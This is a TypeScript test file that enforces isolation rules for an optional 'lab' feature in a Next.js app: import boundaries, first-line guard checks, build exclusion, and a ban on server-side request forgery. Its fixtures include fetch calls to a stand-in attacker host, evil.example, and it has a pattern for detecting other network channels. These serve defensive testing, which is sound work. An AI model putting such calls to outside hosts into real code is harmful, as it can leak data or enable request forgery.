// feature: lab (this file)
import { describe, expect, test } from 'vitest'
import { calledBy, directiveOf, exportedFunctions, parseSource, readSources, type Source } from '@/tests/support/source'

/** The lab's own files. Every other file is an ordinary route, or part of one. */
const isLab = ({ path }: Source) => /^(app\/lab|app\/api\/lab|lib\/lab)\/|\.lab\.tsx?$/.test(path)
/** Whether there is a lab, so that a link leads to it: a fact about this deployment, and no switch. */
const sayingWhether = 'lib/lab/shared/is-lab-on'
/** The middleware calls it first. In a build without the lab it answers nothing. */
const door = 'lib/lab/edge/lab-door'

const sources = readSources('app', 'lib', 'middleware.ts')

const reachingIntoLab = (source: Source) =>
  source.imports
    .filter(({ target }) => /^(app\/lab|lib\/lab)\/|\.lab$/.test(target) && target !== sayingWhether)
    .filter(({ target }) => !(source.path === 'middleware.ts' && target === door))
    .map(({ target }) => `${source.path} -> ${target}`)

test('no ordinary route imports the lab, so that none can read a switch of it', () => {
  expect(sources.filter(isLab).length).toBeGreaterThan(8)
  expect(sources.filter((source) => !isLab(source)).flatMap(reachingIntoLab)).toEqual([])
})

/** The first statement of every entry point of the lab. */
function guardFor({ path }: Source, name: string): string | null {
  if (path.endsWith('/page.lab.tsx') && name === 'default') return 'requireLab'
  if (path.endsWith('/route.lab.ts') && /^[A-Z]+$/.test(name)) return 'answerLab'
  return path.endsWith('/actions.ts') ? 'requireLab' : null
}

/** Not its own functions: those have a guard where they are defined. */
const functionsOf = (source: Source) =>
  [...exportedFunctions(source)].filter(([, { statements }]) => statements !== null)

const unguarded = (source: Source) =>
  functionsOf(source)
    .map(([name, { statements }]) => ({ name, guard: guardFor(source, name), first: calledBy(statements?.[0]) }))
    .filter(({ guard, first }) => guard !== null && guard !== first)
    .map(({ name, guard }) => `${source.path}: ${name} does not begin with ${guard}`)

test('every page, action and handler of the lab checks on its first line whether the lab exists', () => {
  expect(sources.filter(isLab).flatMap(unguarded)).toEqual([])
})

test('the one handler of the lab answers every method, so that Next answers none without that check', () => {
  const routes = sources.filter(({ path }) => path.endsWith('/route.lab.ts'))
  expect(routes.map(({ path }) => path)).toEqual(['app/api/lab/[act]/route.lab.ts'])
  const names = [...(routes[0]?.text.matchAll(/answer as ([A-Z]+)/g) ?? [])].map(([, name]) => name)
  expect(names).toEqual(['DELETE', 'GET', 'HEAD', 'OPTIONS', 'PATCH', 'POST', 'PUT'])
  expect(routes[0]?.text).toMatch(/function answer\([^)]*\): Promise<Response> \{\s+return answerLab\(request,/)
})

/** Found by their names alone: `page.tsx` below /lab would be part of every build. */
const alwaysBuilt = ({ path }: Source) =>
  /^app\/(lab|api\/lab)\//.test(path) && /\/(page|route|layout|default|error|loading|not-found)\.tsx?$/.test(path)

test('every route of the lab is missing from a build without it', () => {
  expect(sources.filter(alwaysBuilt).map(({ path }) => path)).toEqual([])
  const actions = sources.filter((source) => isLab(source) && directiveOf(source) === 'use server')
  expect(actions.length).toBeGreaterThan(0)
})

/** The addresses that the server may fetch: the configured ones, never one from a request (that would be SSRF). */
const ownAddress = /^`\$\{selfOrigin\(\)\}/
/**
 * Below app/ the browser fetches, and our Content-Security-Policy limits the targets: ourselves, and the services that
 * tokens are for.
 */
const isAskedByBrowser = ({ path }: Source) => path.startsWith('app/lab/')

const absolute = /^['"`](https?:|\/\/)/

/** Calls of `fetch`, as a function or as a property, with the first argument. */
const askedAddresses = ({ text }: Source) =>
  [...text.matchAll(/\bfetch\s*\(\s*(`[^`]*`|[^,()]*(?:\(\))?[^,()]*)/g)].map(([, address = '']) => address.trim())

const askingElsewhere = (source: Source) =>
  askedAddresses(source)
    .filter((address) => (isAskedByBrowser(source) ? absolute.test(address) : !ownAddress.test(address)))
    .map((address) => `${source.path}: ${address}`)

/** Another network API than `fetch`. */
const otherWaysOut = ({ text }: Source) =>
  /XMLHttpRequest|WebSocket|EventSource|sendBeacon|node:(http|https|net)\b/.test(text)

test('no code of the lab fetches another origin, or an address from a request', () => {
  expect(sources.filter(isLab).flatMap(askedAddresses).length).toBeGreaterThan(0)
  expect(sources.filter(isLab).flatMap(askingElsewhere)).toEqual([])
  expect(sources.filter(isLab).filter(otherWaysOut)).toEqual([])
})

describe('a violation is found in', () => {
  test.each([
    ['lib/lab/server/x.ts', 'fetch(address)'],
    ['lib/lab/server/x.ts', 'fetch(request.url, init)'],
    ['lib/lab/server/x.ts', 'globalThis.fetch(new URL(path, origin))'],
    ['lib/lab/edge/x.lab.ts', `fetch(\`\${origin}\${targets.edge}\`)`],
    ['app/api/lab/x/route.lab.ts', "fetch('https://evil.example')"],
    ['app/lab/x/ask.ts', `fetch(\`https://evil.example/\${path}\`, asking)`],
    ['app/lab/x/ask.ts', "fetch('//evil.example')"],
  ])('in %s a call to another server: %s', (path, call) => {
    expect(askingElsewhere(parseSource(path, call))).toHaveLength(1)
  })

  test('a call to ourselves has no violation', () => {
    const server = `fetch(\`\${selfOrigin()}\${targets.edge}?\${query}\`, { headers })`
    expect(askingElsewhere(parseSource('lib/lab/server/x.ts', server))).toEqual([])
    expect(askingElsewhere(parseSource('app/lab/x/ask.ts', 'fetch(routes.me, asking)'))).toEqual([])
  })

  test.each([
    ['a page', 'app/lab/x/page.lab.tsx', 'export default function Page() { load() }'],
    ['a handler', 'app/api/lab/x/route.lab.ts', 'export async function GET() { return read() }'],
    ['an action', 'app/lab/x/actions.ts', `'use server'\nexport async function a() { await requireOwnOrigin() }`],
  ])('%s without the check', (_, path, text) => {
    expect(unguarded(parseSource(path, text))).toHaveLength(1)
  })

  test('an ordinary page that reads a switch', () => {
    const page = parseSource('app/dashboard/page.tsx', `import { readSwitches } from '@/lib/lab/shared/switches'`)
    expect(reachingIntoLab(page)).toHaveLength(1)
  })

  test('a page of the lab that every build would contain', () => {
    expect(alwaysBuilt(parseSource('app/lab/x/page.tsx', ''))).toBe(true)
  })
})
